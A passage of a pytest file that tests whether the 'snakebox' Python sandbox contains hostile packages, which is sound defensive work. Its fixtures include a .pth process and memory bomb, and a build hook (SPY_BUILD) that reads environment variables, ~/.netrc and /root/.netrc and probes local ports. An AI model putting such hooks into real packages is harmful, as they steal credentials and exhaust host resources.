    hog = "import time\ntime.sleep(1)\nx = []\nfor i in range(64):\n    x.append(bytearray(64 << 20))\n    time.sleep(0.05)\ntime.sleep(120)\n"
    # -S: the allocator must not run this .pth again.
    subprocess.run([sys.executable, "-S", "-c", hog, MARK + "HOG"])
    time.sleep(120)
'''


async def test_D03_compile_time_code_gets_the_run_limits(snakebox_bin, tmp_path, canaries, index):
    """A wheel's `.pth` that storms processes, allocates and sleeps while the environment is
    compiled (wheels only, the default): the limits hold as for a build."""
    mark = f"SBXPTHBOMB{secrets.token_hex(6)}"
    index.add(wheel_bytes("sbxpthbomb", "1.0", {
        "sbxpthbomb.pth": "import _sbxpthbomb_boot\n",
        "_sbxpthbomb_boot.py": PTH_BOMB.format(mark=mark),
    }))
    seen: dict[str, Any] = {"max": 0, "hog_kib": 0, "hog_seen": 0.0, "hog_gone": 0.0}
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            pids = marker_pids(mark)
            seen["max"] = max(seen["max"], len(pids))
            hogs = [p for p in pids if (mark + "HOG").encode() in cmdline(p)]
            if hogs:
                seen["hog_seen"] = seen["hog_seen"] or time.monotonic()
                seen["hog_kib"] = max(seen["hog_kib"], max(rss_kib(p) for p in hogs))
            elif seen["hog_seen"] and not seen["hog_gone"]:
                seen["hog_gone"] = time.monotonic()
            time.sleep(0.2)

    watcher = threading.Thread(target=watch, daemon=True)
    args = ("--install-timeout", "25", "--max-processes", "48", "--memory-limit", "512MiB")
    async with server(snakebox_bin, fresh_data_dir(tmp_path, "data"), canaries, index, *args) as client:
        watcher.start()
        # The environment is published before it is compiled: the run does not wait for it.
        data, text, is_error = await run_script(client, "print('RAN')", ["sbxpthbomb==1.0"], timeout=60)
        assert not is_error and data["status"] == "ok" and data["stdout"] == "RAN\n", text
        t0 = time.monotonic()
        state = await compilations_ended(client, 1)
        wall = time.monotonic() - t0
        stop.set()
        watcher.join(2)
        await alive(client)
    hog_life = seen["hog_gone"] - seen["hog_seen"] if seen["hog_gone"] else None
    print("D-03 compile:", json.dumps(state)[:300], seen, f"hog life {hog_life}, wall {wall:.1f}s")
    assert 10 <= seen["max"] <= 48, seen
    # The allocator ran (seen in host /proc, growing) and was stopped within seconds, never
    # above the limit (it asks for 4 GiB).
    assert 64 * 1024 < seen["hog_kib"] <= 512 * 1024, seen
    assert hog_life is not None and hog_life < 20, seen
    # The whole compilation is stopped: by the memory limit (the kernel's OOM kill of the
    # allocator ends the run as `memory_limit`) or, if only the allocator died, at the timeout;
    # its copy is discarded and the environment stays as published (not compiled).
    message = state["last_failure"] or ""
    assert state["failed"] == 1 and state["completed"] == 0, state
    assert "memory limit" in message or "time limit of `25s`" in message, state
    assert wall < 60
    time.sleep(1)
    assert marker_pids(mark) == []


SPY_BUILD = r'''
import json, os, socket, sys
seen = {{"env": dict(os.environ), "home": os.path.expanduser("~"), "uid": os.getuid(), "files": {{}}, "connect": {{}}}}
for path in [os.path.expanduser("~/.netrc"), {home!r} + "/.netrc", "/root/.netrc", {cache!r}]:
    try:
        seen["files"][path] = open(path).read(2000) if os.path.isfile(path) else str(os.path.exists(path))
    except OSError as e:
        seen["files"][path] = "errno %d" % e.errno
for host, port in [("127.0.0.1", {port}), ("127.0.0.1", {index_port})]:
    s = socket.socket(); s.settimeout(2)
    seen["connect"]["%s:%d" % (host, port)] = s.connect_ex((host, port)); s.close()
return write_wheel(wheel_directory, "sbxbuildspy", "1.0", {{"sbxbuildspy.py": "SEEN = " + repr(json.dumps(seen)) + "\n"}})
'''


async def test_D04_an_opt_in_sdist_build_gets_no_secret_and_no_network(snakebox_bin, tmp_path, canaries, index, token):
    data_dir = fresh_data_dir(tmp_path, "data")
    links = tmp_path / "links"
    links.mkdir()
    body = SPY_BUILD.format(home=str(canaries.home), cache=str(data_dir / "installs-v1" / "uv-cache"), port=canaries.tcp_port, index_port=index.port)
    name, blob = sdist_bytes("sbxbuildspy", "1.0", body)
    (links / name).write_bytes(blob)
    for path in (tmp_path, links, links / name):
        path.chmod(0o755)
    async with server(snakebox_bin, data_dir, canaries, index, "--allow-sdist-builds",
                      extra_env={"UV_FIND_LINKS": str(links)}) as client:
        data, text, is_error = await run_script(client, "import sbxbuildspy; print(sbxbuildspy.SEEN)", ["sbxbuildspy==1.0"])
        await alive(client)
    assert not is_error and data["status"] == "ok", data
    seen = json.loads(data["stdout"])
    print("D-04 build view:", json.dumps({k: seen[k] for k in ("uid", "home", "connect", "files")})[:800])
    assert_token_absent(token, data["stdout"], text)
    assert_no_leak(canaries, data, text)
    assert not any("INDEX" in k for k in seen["env"]), seen["env"]
    assert seen["home"] == "/tmp" and seen["uid"] not in (0, 65533)
    assert all(v != 0 for v in seen["connect"].values()), seen["connect"]
    assert seen["files"][str(data_dir / "installs-v1" / "uv-cache")] == "False"
    assert canaries.connections() == []


# ---------------------------------------------------------------------------------------------
# Session installs: the same two steps.
# ---------------------------------------------------------------------------------------------


async def test_D04_D05_session_install_code_gets_no_secret_and_cannot_touch_the_cache(
    snakebox_bin, tmp_path, canaries, index, token
):
    """`install_packages` runs the packages' `.pth` code while compiling the session's venv (proof
    of life: it writes what it saw into the venv): no credential, no operator HOME, no network,
    no cache; a later environment built from the cache is byte-identical to a fresh one; the
    session can still use what it installed, console scripts included."""
    data_dir = fresh_data_dir(tmp_path, "data")
    index.add(spy_wheel(canaries, index, data_dir))
    index.add(victim_wheel())
    index.add(wheel_bytes("sbxtool", "1.0", {
        "sbxtool.py": "import sbxvictim\ndef main():\n    print('tool ran', sbxvictim.VALUE)\n",
        "sbxtool-1.0.dist-info/entry_points.txt": "[console_scripts]\nsbxtool = sbxtool:main\n",
    }))
    async with server(snakebox_bin, data_dir, canaries, index) as client:
        created, _, is_error = await call(client, "create_session")
        assert not is_error, created
        sid = created["session_id"]
        status, _, _ = await call(client, "install_packages", session_id=sid, packages=["sbxspy==1.0", "sbxvictim==1.0"])
        assert "sbxspy" in json.dumps(status.get("packages")), status
        # A second install into the venv that now has packages (and the spy's .pth).
        status, _, _ = await call(client, "install_packages", session_id=sid, packages=["sbxtool==1.0"])
        assert "sbxtool" in json.dumps(status.get("packages")), status
        data, text, is_error = await call(client, "execute_python", session_id=sid, script=READ_PROOF)
        assert not is_error and data["status"] == "ok", data
        proof = json.loads(data["stdout"])
        data, _, is_error = await call(client, "execute_python", session_id=sid,
                                       script="import os, subprocess, sys, sbxvictim\nprint(sbxvictim.VALUE)\n"
                                       "subprocess.run([os.path.join(sys.prefix, 'bin', 'sbxtool')], check=True)")
        assert not is_error and data["stdout"] == "clean\ntool ran clean\n", data
        await call(client, "delete_session", session_id=sid)
        data, _, is_error = await run_script(client, HASH_TREE, ["sbxvictim==1.0", "sbxspy==1.0"])
        assert not is_error, data
        later = json.loads(data["stdout"])
    print("D-04 session install view:", json.dumps({k: proof[k] for k in ("uid", "home", "connect", "tamper")}))
    assert proof["argv"][-1].endswith("site-packages"), proof["argv"]
    assert_token_absent(token, json.dumps(proof), text)
    assert proof["home"] == "/tmp" and not any("INDEX" in k for k in proof["env"]), proof["env"]
    assert all(v != 0 for v in proof["connect"].values()), proof["connect"]
    assert proof["tamper"]["append_victim"] in (13, 1) and proof["tamper"]["cache_visible"] is False, proof["tamper"]
    assert "append_cache" not in proof["tamper"] and "append_own_cache" not in proof["tamper"], proof["tamper"]
    async with server(snakebox_bin, fresh_data_dir(tmp_path, "fresh"), canaries, index) as client:
        data, _, is_error = await run_script(client, HASH_TREE, ["sbxvictim==1.0", "sbxspy==1.0"])
        assert not is_error, data
        fresh = json.loads(data["stdout"])
    assert later == fresh and later["value"] == "clean" and not later["pwned"], (later, fresh)
    assert canaries.connections() == []


async def test_a_running_session_install_shows_its_progress_as_it_goes(snakebox_bin, tmp_path, canaries, index):
    """`list_packages` (and the web UI's session page, which reads it) shows uv's output of an
    install while it is still running, not only once it has ended."""
    name, blob = wheel_bytes("sbxslow", "1.0", {"sbxslow.py": "X = 1"})
    index.add((name, blob))
    index.delays[name] = 8
    data_dir = fresh_data_dir(tmp_path, "data")
    async with server(snakebox_bin, data_dir, canaries, index) as client:
        data, _, is_error = await call(client, "create_session")
        assert not is_error, data
        session = data["session_id"]
        data, _, is_error = await call(client, "install_packages", session_id=session, packages=["sbxslow==1.0"],
                                       wait_seconds=1)
        assert not is_error and data["state"] == "running", data
        live = None
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            listing, _, _ = await call(client, "list_packages", session_id=session)
            install = listing["install"]
            if install["state"] != "running":
                break
            if "Resolved" in install["log_tail"]:
                live = install["log_tail"]
                break
            await anyio.sleep(0.2)
        # uv resolved, and the download (8 s) is still going: its output so far is there.
        assert live is not None, f"no resolution in the output while running: {install}"
        while time.monotonic() < deadline:
            listing, _, _ = await call(client, "list_packages", session_id=session)
            if listing["install"]["state"] != "running":
                break
            await anyio.sleep(0.5)
        assert listing["install"]["state"] == "succeeded", listing
        data, _, is_error = await call(client, "execute_python", session_id=session, script="import sbxslow; print(sbxslow.X)")
        assert not is_error and data["stdout"] == "1\n", data


async def test_a_session_installs_steps_are_held_to_the_install_timeout(snakebox_bin, tmp_path, canaries, index):
    """One `--install-timeout` for every install step: a session install whose download stalls
    is stopped at the operator's limit, as an environment build's step is, and says which
    setting allows longer (it had a fixed 600 s of its own)."""
    name, blob = wheel_bytes("sbxstall", "1.0", {"sbxstall.py": "X = 1"})
    index.add((name, blob))
    index.delays[name] = 90
    async with server(snakebox_bin, fresh_data_dir(tmp_path, "data"), canaries, index, "--install-timeout", "5") as client:
        data, _, is_error = await call(client, "create_session")
        assert not is_error, data
        t0 = time.monotonic()
        status, text, _ = await call(client, "install_packages", session_id=data["session_id"], packages=["sbxstall==1.0"], wait_seconds=60)
        wall = time.monotonic() - t0
    assert status["state"] == "failed", status
    assert "took longer than 5 s and was stopped" in text and "--install-timeout" in text, text
    assert wall < 40, wall


async def test_the_operators_index_url_is_where_installs_resolve(snakebox_bin, tmp_path, canaries, index):
    """`--index-url` (issue 36: python-mcp-sandbox's PyPI mirror setting): installs resolve from
    it, in place of the index the server's environment names (here a dead one), for one-shot
    runs and session installs alike."""
    index.add(wheel_bytes("sbxmirror", "1.0", {"sbxmirror.py": "WHERE = 'mirror'"}))
    dead = "http://127.0.0.1:9/simple"
    async with server(snakebox_bin, fresh_data_dir(tmp_path, "data"), canaries, index, "--index-url", index.url,
                      extra_env={"UV_INDEX_URL": dead}) as client:
        data, text, is_error = await run_script(client, "import sbxmirror; print(sbxmirror.WHERE)", ["sbxmirror==1.0"])
        assert not is_error and data["stdout"] == "mirror\n", text
        created, _, _ = await call(client, "create_session")
        status, text, _ = await call(client, "install_packages", session_id=created["session_id"], packages=["sbxmirror==1.0"])
        assert status["state"] == "succeeded", text
    assert any("sbxmirror" in path for path, _ in index.requests), index.requests
